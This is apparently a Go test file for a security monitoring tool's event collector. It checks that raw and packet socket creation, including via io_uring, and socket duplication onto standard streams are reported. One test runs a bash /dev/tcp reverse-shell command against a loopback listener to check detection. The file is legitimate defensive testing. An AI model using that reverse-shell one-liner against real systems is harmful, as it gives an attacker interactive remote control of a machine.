package collector_test

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"os/exec"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/vigil-sec/vigil/internal/event"
)

const (
	ethPAll = 0x0300 // htons(ETH_P_ALL), as a packet socket's protocol is passed
	ethPIP  = 0x0008 // htons(ETH_P_IP)

	ioringOpSocket         = 45
	ioringOpFixedFDInstall = 54
	iosqeFixedFile         = 1 << 0
)

// socketMade is what a SOCKET_CREATE says.
type socketMade struct {
	domain, typ string
	protocol    uint32
}

// socketsMade are the SOCKET_CREATE events of pid among evs, in order.
func socketsMade(evs []event.Event, pid uint32) []socketMade {
	var out []socketMade
	for _, ev := range evs {
		if ev.Type == event.SocketCreate && ev.PID == pid {
			out = append(out, socketMade{ev.SocketDomain, ev.SocketType, ev.SocketProtocol})
		}
	}
	return out
}

// eventsUntil collects the events until one matches last (included), or
// fails the test after 10s.
func eventsUntil(t *testing.T, events <-chan event.Event, what string, last func(*event.Event) bool) []event.Event {
	t.Helper()
	var got []event.Event
	waitFor(t, events, what, func(ev *event.Event) bool {
		got = append(got, *ev)
		return last(ev)
	})
	return got
}

// TestSocketCreate makes packet and raw sockets, which are reported with the
// kernel's names of their domain and type and their protocol, and ordinary
// sockets, which are not.
func TestSocketCreate(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("skipping: packet and raw sockets need root")
	}
	_, events := startCollector(t)
	me := uint32(os.Getpid())
	var want []socketMade
	sock := func(domain, typ, proto int, reported *socketMade) {
		t.Helper()
		fd, err := unix.Socket(domain, typ|unix.SOCK_CLOEXEC, proto)
		if err != nil {
			if domain == unix.AF_INET6 && errors.Is(err, unix.EAFNOSUPPORT) {
				t.Logf("no IPv6 here: socket(AF_INET6, %d, %d) left out", typ, proto)
				return
			}
			t.Fatalf("socket(%d, %d, %d): %v", domain, typ, proto, err)
		}
		unix.Close(fd)
		if reported != nil {
			want = append(want, *reported)
		}
	}
	// Ordinary sockets first: none of them is reported.
	sock(unix.AF_INET, unix.SOCK_STREAM, 0, nil)
	sock(unix.AF_INET6, unix.SOCK_DGRAM, 0, nil)
	sock(unix.AF_UNIX, unix.SOCK_STREAM, 0, nil)
	sock(unix.AF_NETLINK, unix.SOCK_RAW, unix.NETLINK_ROUTE, nil) // raw, but no IP socket
	sock(unix.AF_PACKET, unix.SOCK_RAW, ethPAll, &socketMade{"AF_PACKET", "SOCK_RAW", ethPAll})
	sock(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_NONBLOCK, ethPIP, &socketMade{"AF_PACKET", "SOCK_DGRAM", ethPIP})
	// The obsolete form of a packet socket: the kernel makes an AF_PACKET one.
	sock(unix.AF_INET, unix.SOCK_PACKET, ethPAll, &socketMade{"AF_PACKET", "SOCK_PACKET", ethPAll})
	sock(unix.AF_INET6, unix.SOCK_RAW, unix.IPPROTO_ICMPV6, &socketMade{"AF_INET6", "SOCK_RAW", unix.IPPROTO_ICMPV6})
	// The last one ends the wait.
	sock(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP, &socketMade{"AF_INET", "SOCK_RAW", unix.IPPROTO_ICMP})
	evs := eventsUntil(t, events, "SOCKET_CREATE of the raw ICMP socket", func(ev *event.Event) bool {
		return ev.Type == event.SocketCreate && ev.PID == me && ev.SocketDomain == "AF_INET"
	})
	if got := socketsMade(evs, me); !slices.Equal(got, want) {
		t.Errorf("SOCKET_CREATE events %+v, want %+v", got, want)
	}
	for _, ev := range evs {
		if ev.Type == event.SocketCreate && ev.PID == me {
			checkSelf(t, ev)
		}
	}
	// A socket call that fails is not reported.
	if _, err := unix.Socket(unix.AF_PACKET, unix.SOCK_STREAM, ethPAll); !errors.Is(err, unix.ESOCKTNOSUPPORT) {
		t.Fatalf("socket(AF_PACKET, SOCK_STREAM): %v, want ESOCKTNOSUPPORT", err)
	}
	sock(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_RAW, nil)
	evs = eventsUntil(t, events, "SOCKET_CREATE of the IPPROTO_RAW socket", func(ev *event.Event) bool {
		return ev.Type == event.SocketCreate && ev.PID == me && ev.SocketProtocol == unix.IPPROTO_RAW
	})
	if got, want := socketsMade(evs, me), []socketMade{{"AF_INET", "SOCK_RAW", unix.IPPROTO_RAW}}; !slices.Equal(got, want) {
		t.Errorf("after a failed socket call: SOCKET_CREATE events %+v, want %+v", got, want)
	}
}

// socket makes a socket through io_uring and returns its descriptor, or
// with a fileIndex (see sqeFileIndex) 0 or the slot picked in the ring's
// table of files.
func (r *uring) socket(domain, typ, proto int, async bool, fileIndex uint32) (int, error) {
	res, err := r.submit(func(sqe []byte) {
		sqeSet(sqe, ioringOpSocket, async, int32(domain), uint64(typ), 0, uint32(proto), 0)
		sqeFileIndex(sqe, fileIndex)
	})
	if err == nil && res < 0 {
		err = fmt.Errorf("socket: %w", unix.Errno(-res))
	}
	return int(res), err
}

// TestIoUringSocket makes sockets through io_uring (IORING_OP_SOCKET), in
// the submitting thread, an io-wq worker and the SQ polling thread, into a
// descriptor and into the ring's table of files: the packet and raw ones are
// reported as socket(2)'s are, the ordinary ones are not.
func TestIoUringSocket(t *testing.T) {
	if os.Getuid() != 0 {
		t.Skip("skipping: packet and raw sockets need root")
	}
	c, events := startCollector(t)
	r := newTestRing(t, c, 0)
	me := uint32(os.Getpid())
	for _, m := range ringModes(r, newTestRing(t, c, ioringSetupSQPoll)) {
		for _, into := range []struct {
			name      string
			fileIndex uint32
		}{{"", 0}, {", into the ring's table", 3}, {", into a slot the kernel picks", ioringFileIndexAlloc}} {
			t.Run(m.name+into.name, func(t *testing.T) {
				for _, s := range []struct{ domain, typ, proto int }{
					{unix.AF_INET, unix.SOCK_STREAM, 0}, {unix.AF_PACKET, unix.SOCK_RAW, ethPAll}, {unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_UDP},
				} {
					fd, err := m.ring.socket(s.domain, s.typ, s.proto, m.async, into.fileIndex)
					if errors.Is(err, unix.EINVAL) {
						t.Skipf("skipping: the kernel has no IORING_OP_SOCKET: %v", err)
					}
					if err != nil {
						t.Fatal(err)
					}
					if into.fileIndex == 0 {
						unix.Close(fd)
					}
				}
				evs := eventsUntil(t, events, "SOCKET_CREATE of the raw UDP socket", func(ev *event.Event) bool {
					return ev.Type == event.SocketCreate && ev.PID == me && ev.SocketProtocol == unix.IPPROTO_UDP
				})
				want := []socketMade{{"AF_PACKET", "SOCK_RAW", ethPAll}, {"AF_INET", "SOCK_RAW", unix.IPPROTO_UDP}}
				if got := socketsMade(evs, me); !slices.Equal(got, want) {
					t.Errorf("SOCKET_CREATE events %+v, want %+v", got, want)
				}
			})
		}
	}
}

// dupped is what an FD_DUP says.
type dupped struct {
	op       string
	fd       uint32
	protocol string
	src, dst netip.AddrPort
}

func (d dupped) String() string {
	return fmt.Sprintf("%s onto %d: %s %v -> %v", d.op, d.fd, d.protocol, d.src, d.dst)
}

func dupsOf(evs []event.Event) []dupped {
	var out []dupped
	for _, ev := range evs {
		if ev.Type != event.FDDup {
			continue
		}
		d := dupped{op: ev.Operation, fd: ev.FDNumber, protocol: ev.Protocol}
		if ev.SourceIP != "" || ev.DestIP != "" {
			d.src = netip.AddrPortFrom(netip.MustParseAddr(ev.SourceIP), ev.SourcePort)
			d.dst = netip.AddrPortFrom(netip.MustParseAddr(ev.DestIP), ev.DestPort)
		}
		out = append(out, d)
	}
	return out
}

// dupHelperEnv names, for the fd-dup helper, where it connects: the TCP
// listener on 127.0.0.1, the UDP socket on 127.0.0.1, the TCP listener on
// ::1 (empty: no IPv6), and whether it installs a descriptor through io_uring.
const (
	dupTCPEnv    = "VIGIL_DUP_TCP"
	dupUDPEnv    = "VIGIL_DUP_UDP"
	dupTCP6Env   = "VIGIL_DUP_TCP6"
	dupUringEnv  = "VIGIL_DUP_URING"
	dupHelperArg = "fd-dup"
)

// socketHelper runs the socket helpers of the re-executed test binary (see
// systemHelper).
func socketHelper(what string) error {
	if what != dupHelperArg {
		return fmt.Errorf("unknown helper %q", what)
	}
	return fdDupHelper()
}

// dial connects a new socket of family and typ to addr ("ip:port") with raw
// syscalls and returns it and its local port.
func dial(family, typ int, addr string) (int, int, error) {
	ap, err := netip.ParseAddrPort(addr)
	if err != nil {
		return -1, 0, err
	}
	fd, err := unix.Socket(family, typ|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return -1, 0, err
	}
	var sa unix.Sockaddr
	if family == unix.AF_INET6 {
		sa = &unix.SockaddrInet6{Addr: ap.Addr().As16(), Port: int(ap.Port())}
	} else {
		sa = &unix.SockaddrInet4{Addr: ap.Addr().As4(), Port: int(ap.Port())}
	}
	if err := unix.Connect(fd, sa); err != nil {
		return -1, 0, fmt.Errorf("connect %s: %w", addr, err)
	}
	local, err := unix.Getsockname(fd)
	if err != nil {
		return -1, 0, err
	}
	switch s := local.(type) {
	case *unix.SockaddrInet4:
		return fd, s.Port, nil
	case *unix.SockaddrInet6:
		return fd, s.Port, nil
	}
	return -1, 0, fmt.Errorf("local address %T", local)
}

// dup2 is dup2(2) itself (x/sys/unix's Dup2 calls dup3).
func dup2(oldfd, newfd int) error {
	if _, _, e := unix.Syscall(unix.SYS_DUP2, uintptr(oldfd), uintptr(newfd), 0); e != 0 {
		return fmt.Errorf("dup2(%d, %d): %w", oldfd, newfd, e)
	}
	return nil
}

// fdDupHelper duplicates sockets onto the standard streams in every way
// TestFDDup expects reported, and sockets and files in ways it expects not
// reported, restoring its streams after each; it prints the local ports of
// its TCP, UDP and IPv6 TCP sockets and whether io_uring installed one.
func fdDupHelper() error {
	tcp, tcpPort, err := dial(unix.AF_INET, unix.SOCK_STREAM, os.Getenv(dupTCPEnv))
	if err != nil {
		return err
	}
	// A socket onto 5 (before other descriptors take it): not reported.
	if tcp == 5 {
		if tcp, err = unix.FcntlInt(5, unix.F_DUPFD_CLOEXEC, 6); err != nil {
			return err
		}
		unix.Close(5)
	}
	if _, err := unix.FcntlInt(5, unix.F_GETFD, 0); !errors.Is(err, unix.EBADF) {
		l, _ := os.Readlink("/proc/self/fd/5")
		return fmt.Errorf("descriptor 5 is %s: the helper needs it free", l)
	}
	if err := dup2(tcp, 5); err != nil {
		return err
	}
	udp, udpPort, err := dial(unix.AF_INET, unix.SOCK_DGRAM, os.Getenv(dupUDPEnv))
	if err != nil {
		return err
	}
	tcp6, tcp6Port := -1, 0
	if a := os.Getenv(dupTCP6Env); a != "" {
		if tcp6, tcp6Port, err = dial(unix.AF_INET6, unix.SOCK_STREAM, a); err != nil {
			return err
		}
	}
	var saved [3]int // the standard streams, kept on descriptors above 2: not reported
	for i := range saved {
		if saved[i], err = unix.Dup(i); err != nil {
			return err
		}
	}
	restore := func(fd int) error { return dup2(saved[fd], fd) }
	steps := []func() error{
		func() error { return dup2(tcp, 0) },                                           // reported: dup2 onto 0
		func() error { return dup2(0, 0) },                                             // onto itself: nothing changes
		func() error { return unix.Dup3(tcp, 2, unix.O_CLOEXEC) },                      // reported: dup3 onto 2
		func() error { return restore(2) },                                             // a pipe: not reported
		func() error { return unix.Close(0) },                                          //
		func() error { return dupTo(0, func() (int, error) { return unix.Dup(tcp) }) }, // reported: dup gets 0
		func() error { return unix.Close(0) },
		func() error { // reported: fcntl gets 0
			return dupTo(0, func() (int, error) { return unix.FcntlInt(uintptr(tcp), unix.F_DUPFD_CLOEXEC, 0) })
		},
		func() error { return dup2(udp, 1) }, // reported
		func() error { return restore(1) },
		func() error { // a regular file onto 1: not reported
			f, err := os.CreateTemp("", "vigil-dup-")
			if err != nil {
				return err
			}
			defer os.Remove(f.Name())
			defer f.Close()
			if err := dup2(int(f.Fd()), 1); err != nil {
				return err
			}
			return restore(1)
		},
		func() error { // reported, when there is IPv6
			if tcp6 < 0 {
				return nil
			}
			if err := dup2(tcp6, 2); err != nil {
				return err
			}
			return restore(2)
		},
		func() error { // a Unix socket: reported
			sp, err := unix.Socketpair(unix.AF_UNIX, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return err
			}
			return dup2(sp[0], 0)
		},
	}
	for i, step := range steps {
		if err := step(); err != nil {
			return fmt.Errorf("step %d: %w", i, err)
		}
	}
	installed := false
	if os.Getenv(dupUringEnv) != "" {
		if installed, err = installFixed(tcp); err != nil {
			return err
		}
	}
	fmt.Println(tcpPort, udpPort, tcp6Port, installed)
	return nil
}

// dupTo runs dup, which must give descriptor want.
func dupTo(want int, dup func() (int, error)) error {
	fd, err := dup()
	if err != nil {
		return err
	}
	if fd != want {
		return fmt.Errorf("duplicated onto %d, want %d", fd, want)
	}
	return nil
}

// installFixed puts socket fd into an io_uring's table of files, closes
// descriptor 0 and installs the ring's file as a descriptor
// (IORING_OP_FIXED_FD_INSTALL, from 6.8), which gets 0. It reports false
// where the kernel lacks the operation.
func installFixed(fd int) (bool, error) {
	r, err := newURing(0)
	if err != nil {
		return false, err
	}
	defer r.Close()
	if err := r.registerFiles([]int32{int32(fd)}); err != nil {
		return false, err
	}
	if err := unix.Close(0); err != nil {
		return false, err
	}
	res, err := r.submit(func(sqe []byte) {
		sqeSet(sqe, ioringOpFixedFDInstall, false, 0, 0, 0, 0, 0)
		sqe[1] |= iosqeFixedFile
	})
	switch {
	case err != nil:
		return false, err
	case res == -int32(unix.EINVAL):
		return false, nil
	case res != 0:
		return false, fmt.Errorf("IORING_OP_FIXED_FD_INSTALL: %d, want descriptor 0", res)
	}
	return true, nil
}

// TestFDDup duplicates TCP, UDP and Unix sockets onto the standard streams
// with dup, dup2, dup3, fcntl and io_uring, each reported with the descriptor
// and the socket's ends; dups onto other descriptors, of regular files and
// onto the descriptor itself are not reported.
func TestFDDup(t *testing.T) {
	c, events := startCollector(t)
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	pc, err := net.ListenPacket("udp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer pc.Close()
	env := []string{dupTCPEnv + "=" + ln.Addr().String(), dupUDPEnv + "=" + pc.LocalAddr().String()}
	ln6, err := net.Listen("tcp6", "[::1]:0")
	if err == nil {
		defer ln6.Close()
		env = append(env, dupTCP6Env+"="+ln6.Addr().String())
	} else {
		t.Logf("no IPv6 loopback (%v): the IPv6 dup is left out", err)
	}
	if !slices.ContainsFunc(c.Unavailable(), func(u string) bool { return strings.HasPrefix(u, "io_uring") }) {
		env = append(env, dupUringEnv+"=1")
	}
	pid, out := runSystemHelper(t, dupHelperArg, env...)
	var ports [3]int
	var installed bool
	if _, err := fmt.Sscan(out, &ports[0], &ports[1], &ports[2], &installed); err != nil {
		t.Fatalf("helper output %q: %v", out, err)
	}
	lo, lo6 := netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("::1")
	tcp := func(op string, fd uint32) dupped {
		return dupped{op, fd, "tcp", netip.AddrPortFrom(lo, uint16(ports[0])), netip.MustParseAddrPort(ln.Addr().String())}
	}
	want := []dupped{
		tcp("dup2", 0), tcp("dup3", 2), tcp("dup", 0), tcp("fcntl", 0),
		{"dup2", 1, "udp", netip.AddrPortFrom(lo, uint16(ports[1])), netip.MustParseAddrPort(pc.LocalAddr().String())},
	}
	if ln6 != nil {
		want = append(want, dupped{"dup2", 2, "tcp", netip.AddrPortFrom(lo6, uint16(ports[2])), netip.MustParseAddrPort(ln6.Addr().String())})
	}
	want = append(want, dupped{op: "dup2", protocol: "unix"})
	if installed {
		want = append(want, tcp("fixed_fd_install", 0))
	} else {
		t.Log("IORING_OP_FIXED_FD_INSTALL not tried: no io_uring hook, or a kernel before 6.8")
	}
	evs := untilExit(t, events, pid)
	if got := dupsOf(evs); !slices.Equal(got, want) {
		t.Errorf("FD_DUP events of the helper\n got %v\nwant %v", got, want)
	}
	for _, ev := range ofType(evs, event.FDDup) {
		if ev.UID != uint32(os.Getuid()) || ev.PPID != uint32(os.Getpid()) || !strings.HasSuffix(ev.CommandLine, "-test.run=^$") {
			t.Errorf("FD_DUP process context: uid %d ppid %d cmd %q", ev.UID, ev.PPID, ev.CommandLine)
		}
	}
}

// TestFDDupReverseShell runs the reverse shell of bash's /dev/tcp: its
// standard streams redirected to a connection to a listener on loopback,
// each reported as an FD_DUP with the listener as destination.
func TestFDDupReverseShell(t *testing.T) {
	_, events := startCollector(t)
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("skipping: no bash")
	}
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	// The listener sends the shell a command and reads what comes back
	// (prompts and job control warnings too) until the shell exits.
	answer := make(chan string, 1)
	go func() {
		conn, err := ln.Accept()
		if err != nil {
			answer <- err.Error()
			return
		}
		defer conn.Close()
		conn.SetDeadline(time.Now().Add(10 * time.Second))
		fmt.Fprintln(conn, "echo pwned-$((6*7)); exit 0")
		b, _ := io.ReadAll(conn)
		answer <- string(b)
	}()
	cmd := exec.Command(bash, "-c", "bash -i >& /dev/tcp/127.0.0.1/"+strconv.Itoa(port)+" 0>&1")
	out, err := cmd.CombinedOutput()
	if strings.Contains(string(out), "/dev/tcp") {
		t.Skipf("skipping: this bash has no /dev/tcp: %s", out)
	}
	if err != nil {
		t.Fatalf("reverse shell: %v: %s", err, out)
	}
	if got := <-answer; !strings.Contains(got, "pwned-42") {
		t.Fatalf("the shell answered %q over the connection, want pwned-42", got)
	}
	// The redirections are made by the outer bash or a child of it, before
	// the inner bash runs.
	outer := uint32(cmd.Process.Pid)
	var fds []uint32
	waitFor(t, events, "the exit of the outer bash", func(ev *event.Event) bool {
		if ev.Type == event.FDDup && (ev.PID == outer || ev.PPID == outer) {
			fds = append(fds, ev.FDNumber)
			if ev.Protocol != "tcp" || ev.DestIP != "127.0.0.1" || int(ev.DestPort) != port || ev.SourceIP != "127.0.0.1" || ev.SourcePort == 0 {
				t.Errorf("FD_DUP %s %d: %s %s:%d -> %s:%d; want tcp to 127.0.0.1:%d", ev.Operation, ev.FDNumber, ev.Protocol,
					ev.SourceIP, ev.SourcePort, ev.DestIP, ev.DestPort, port)
			}
		}
		return ev.PID == outer && ev.Type == event.TerminateProcess
	})
	slices.Sort(fds)
	if !slices.Equal(slices.Compact(fds), []uint32{0, 1, 2}) {
		t.Errorf("FD_DUP descriptors %v, want 0, 1 and 2 (each at least once)", fds)
	}
}
